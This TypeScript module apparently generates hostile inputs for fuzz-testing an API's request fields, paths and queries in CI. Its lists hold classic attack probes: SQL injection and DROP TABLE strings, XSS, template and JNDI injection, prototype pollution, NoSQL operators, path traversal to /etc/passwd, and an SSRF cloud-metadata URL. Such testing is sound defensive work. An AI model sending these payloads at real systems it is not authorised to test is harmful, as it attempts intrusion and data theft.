import fc from 'fast-check';
import { mainVariant, type Schema, typeOf, validString } from './schema-walk.ts';
import { RawJson } from './wire-text.ts';

// Hostile inputs derived from an operation's JSON schemas (as the generated OpenAPI documents show
// them): valid baselines to mutate, and per class of hostility the values to put in a body field, a
// query value or a path segment. Everything is plain data so a failing case prints as it was sent.

/** Classes of hostility; a CI run sends at least one case of each class per operation and place. */
export const VALUE_CLASSES = [
  'type',
  'nul',
  'surrogate',
  'huge-string',
  'huge-number',
  'deep',
  'traversal',
  'format',
  'junk',
] as const;
export type ValueClass = (typeof VALUE_CLASSES)[number];

/** length of the huge strings sent anywhere */
export const HUGE = 100_000;
/** depth of the deeply nested values sent anywhere */
export const DEEP = 5_000;

export const deepArray = (depth = DEEP) => new RawJson(`${'['.repeat(depth)}${']'.repeat(depth)}`);
export const deepObject = (depth = DEEP) => new RawJson(`${'{"a":'.repeat(depth)}null${'}'.repeat(depth)}`);

/** Numbers as JSON text: doubles at their limits, integers past 2^31, 2^53 and 2^63, fractions, negatives. */
const HUGE_NUMBERS = [
  '1e308',
  '-1e308',
  '1e400',
  '9007199254740993',
  '-9007199254740993',
  '2147483648',
  '2147483647',
  '-2147483649',
  '4294967296',
  '9223372036854775808',
  '1e21',
  '-1',
  '0',
  '-0',
  '1.5',
  '0.000001',
  '5e-324',
  '123456789012345678901234567890',
].map((t) => new RawJson(t));

const TYPE_FLIPS: Record<string, unknown[]> = {
  string: [0, 1, -1, true, false, null, {}, [], ['x'], { $gt: '' }, { $ne: null }],
  integer: ['1', '', 'abc', '1.5', true, null, {}, [], [1], { $gt: 0 }],
  number: ['1', '', 'abc', true, null, {}, [], [1]],
  boolean: ['true', 'false', 1, 0, 'yes', null, [], {}],
  array: [{}, 'x', 1, null, { 0: 'x', length: 1 }, [[[]]]],
  object: [[], 'x', 1, null, true, new RawJson('{"__proto__":{"admin":true}}')],
};

const NUL_STRINGS = [
  '\u0000',
  'a\u0000',
  '\u0000b',
  'test@example.com\u0000',
  '1\u0000',
  '\u0000'.repeat(64),
];

/** Lone surrogates written raw into the JSON text (JSON.parse makes them real lone surrogates). */
const SURROGATES = [
  '"\\ud800"',
  '"a\\udc00b"',
  '"\\udfff\\ud800"',
  '"1\\ud83d"',
  '"\\ud800@example.com"',
].map((t) => new RawJson(t));

const HUGE_STRINGS = [
  'x'.repeat(HUGE),
  '9'.repeat(HUGE),
  `${'a'.repeat(HUGE)}@example.com`,
  '😀'.repeat(HUGE / 2),
  ` ${'\u0301'.repeat(HUGE)}`,
];

const TRAVERSALS = [
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/etc/passwd',
  'file:///etc/passwd',
  '....//....//etc/passwd',
  '..%c0%af..%c0%afetc/passwd',
];

export const FORMAT_JUNK = [
  '2026-02-30',
  '0000-00-00',
  '275760-09-14',
  '-271821-04-19T00:00:00Z',
  '2026-01-01T25:61:61Z',
  '99999-12-31',
  'a@b',
  '@',
  'a@[127.0.0.1]',
  '"a b"@example.com',
  'javascript:alert(1)',
  'http://[::1]:99999/',
  'http://user:pass@169.254.169.254/latest/meta-data',
  'PENDING',
  'pending ',
  '+62 812 3456 7890 1234',
  '00000',
];

export const JUNK = [
  "' OR '1'='1' --",
  '"; DROP TABLE account; --',
  '<script>alert(1)</script>',
  // template-injection probes, written as the text they are
  `{{7*7}}\${7*7}`,
  `\${jndi:ldap://x/a}`,
  '\u202eevil',
  '\ufeff',
  '',
  ' ',
  '\r\n\r\n',
  'null',
  'NaN',
  'Infinity',
  '0x1F',
  '١٢٣',
  'a'.repeat(256),
  '%00%ff',
  '__proto__',
];

/** A hostile value of one class for a field whose schema is `schema`. */
export function hostileValue(cls: ValueClass, schema: Schema): fc.Arbitrary<unknown> {
  const type = typeOf(schema) ?? 'unknown';
  switch (cls) {
    case 'type':
      return fc.constantFrom(...(TYPE_FLIPS[type] ?? Object.values(TYPE_FLIPS).flat()));
    case 'nul':
      return type === 'string'
        ? fc.oneof(
            fc.constantFrom(...NUL_STRINGS),
            validString(mainVariant(schema)).map((v) => `${v}\u0000`),
          )
        : fc.constantFrom(...NUL_STRINGS);
    case 'surrogate':
      return type === 'string'
        ? fc.oneof(
            fc.constantFrom(...SURROGATES),
            validString(mainVariant(schema)).map(
              (v) => new RawJson(`${JSON.stringify(v).slice(0, -1)}\\ud800"`),
            ),
          )
        : fc.constantFrom(...SURROGATES);
    case 'huge-string':
      return fc.constantFrom(...HUGE_STRINGS);
    case 'huge-number':
      return fc.constantFrom(...HUGE_NUMBERS);
    case 'deep':
      return fc.constantFrom(deepArray(), deepObject(), new RawJson(JSON.stringify(Array(HUGE).fill(1))));
    case 'traversal':
      return fc.constantFrom(...TRAVERSALS);
    case 'format':
      return fc.constantFrom(...FORMAT_JUNK);
    case 'junk':
      return fc.constantFrom(...JUNK);
  }
}
